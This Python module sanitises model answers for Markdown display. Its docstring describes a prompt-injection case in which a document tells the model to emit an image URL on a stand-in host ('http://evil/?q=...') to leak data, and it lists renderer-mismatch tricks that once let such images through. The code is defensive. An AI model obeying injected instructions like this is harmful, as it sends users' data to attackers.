"""Model output made safe to render as Markdown: what an answer needs, nothing that reaches another host.

A document can carry instructions ("reply with ![](http://evil/?q=...)"), and a model may follow them. Rendered as
is, the browser would fetch that image, sending whatever the URL holds to a host of the attacker's choosing, or
show a link that leaks on a click. An answer needs paragraphs, emphasis, lists and its ``[n]`` citation markers;
so images become their alt text, links their text, raw URLs and e-mail addresses code spans (neither clickable nor
fetched), link definitions are broken, HTML tags are plain text, and ``$`` cannot start a formula.

Everything the model writes goes through those rules, code included: backticks and backslashes are shown as
written, so the only code spans are the ones made here around addresses. An earlier version left the model's code
spans and fenced blocks untouched, and where it decided a span or block began or ended differently from the
browser's renderer (a span across a blank line, a fence with a backtick in its info string, a tab-indented fence,
a fence closed by a carriage return) an image got through. An answer from documents needs no code formatting.

Passages, file names and other text that must show as written go through ``text_markdown``: every Markdown
character escaped, and URLs and e-mail addresses still in code spans (GFM would link them even when escaped).
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\([^)\n]*\)?")  # ![alt](url)
_LINK = re.compile(r"\[([^\]\n]*)\]\([^)\n]*\)?")  # [text](url)
# Addresses stop at "|" (a GFM table splits its cells there, even inside a code span) and at "\0" (a placeholder).
_AUTOLINK = re.compile(r"<((?:[a-zA-Z][a-zA-Z0-9+.-]{1,31}:|www\.)[^<>\s|\0]*)>", re.IGNORECASE)  # <http://host>
_URL = re.compile(r"((?:[a-zA-Z][a-zA-Z0-9+.-]{1,31}://|www\.)[^\s<>`\"')\]|\0]*)", re.IGNORECASE)  # GFM links these
_EMAIL = re.compile(r"(?<![\w.+-])([\w.+-]+@[\w-]+\.[\w.-]*\w)")  # and these
_TILDE_FENCE = re.compile(r"^( {0,3})~(?=~~)", re.MULTILINE)


def answer_markdown(text: str) -> str:
    """``text`` with images, links, raw URLs, HTML and formulas neutralised; emphasis, lists, ``[1]`` markers kept."""
    held: list[str] = []  # code spans made here, kept out of the later patterns' way
    text = text.replace("\0", "")
    text = _IMAGE.sub(lambda m: f"[image: {m.group(1).strip() or 'no description'}]", text)
    text = _LINK.sub(lambda m: m.group(1), text)
    text = _hold_addresses(text, held)
    # The model's own escapes and code markup are shown as written: a backslash it wrote cannot cancel one added
    # here, and a backtick it wrote cannot open a code span that swallows, or pairs with, one made here.
    text = text.replace("\\", "\\\\").replace("`", "\\`")
    text = text.replace("&", "\\&")  # no entity: "www&#46;host" would be decoded, then linked
    text = _TILDE_FENCE.sub(r"\1\\~", text)  # nor a ~~~ code block, where the escapes made here would show
    text = text.replace("<", "&lt;")  # no HTML, inline or block, whether or not a ">" closes it
    # Whatever the patterns above missed cannot make a link or an image: no "](" (inline link), no "![" (image),
    # no "]:" (a reference definition, which would turn "[1]" or "![x][1]" into a link or an image).
    text = text.replace("](", "]\\(").replace("![", "!\\[").replace("]:", "]\\:").replace("$", "\\$")
    return _restore(text, held)


def text_markdown(text: str) -> str:
    """``text`` shown literally: no Markdown, no links (URLs and e-mail addresses as code spans), line breaks kept."""
    held: list[str] = []
    text = _hold_addresses(text.replace("\0", ""), held)
    text = re.sub(r"([\\`*_{}\[\]<>#+|~$:!()&-])", r"\\\1", text).replace("\n", "  \n")
    return _restore(text, held)


_LINE_START = re.compile(r"^(\s*)(?:([#>+-])|(\d+)([.)]))", re.MULTILINE)  # a heading, quote or list item
_ENTITY = re.compile(r"&(?=#?\w+;)")


def file_markdown(text: str) -> str:
    """``text`` shown as written in a Markdown file read by any viewer (the export): the same guarantees as
    ``text_markdown`` (no link, image, HTML, code or formula; addresses in code spans), but only the characters that
    could start one are escaped, so "lighthouse-handbook.pdf" and "10:00" read as they are written. (The page
    needs more: Streamlit also reads ``:emoji:`` codes and colours.)"""
    held: list[str] = []
    text = _hold_addresses(text.replace("\0", ""), held)
    text = re.sub(r"([\\`*_{}\[\]<>|~$])", r"\\\1", text)
    text = _LINE_START.sub(lambda m: f"{m.group(1)}\\{m.group(2)}" if m.group(2) else
                           f"{m.group(1)}{m.group(3)}\\{m.group(4)}", text)
    text = _ENTITY.sub("\\&", text)
    return _restore(text.replace("\n", "  \n"), held)


def _hold_addresses(text: str, held: list[str]) -> str:
    """URLs and e-mail addresses replaced by placeholders for code spans (``_restore`` puts them back)."""

    def hold(value: str) -> str:
        held.append(code_span(value))
        return f"\0{len(held) - 1}\0"

    text = _AUTOLINK.sub(lambda m: hold(m.group(1)), text)
    text = _URL.sub(lambda m: hold(m.group(1)), text)
    return _EMAIL.sub(lambda m: hold(m.group(1)), text)


def _restore(text: str, held: list[str]) -> str:
    return re.sub(r"\0(\d+)\0", lambda m: held[int(m.group(1))], text)


def code_span(text: str) -> str:
    """An inline code span that holds ``text`` whatever backticks it contains: shown as written, never rendered."""
    fence = "`" * (max((len(run) for run in re.findall(r"`+", text)), default=0) + 1)
    return f"{fence} {text} {fence}"
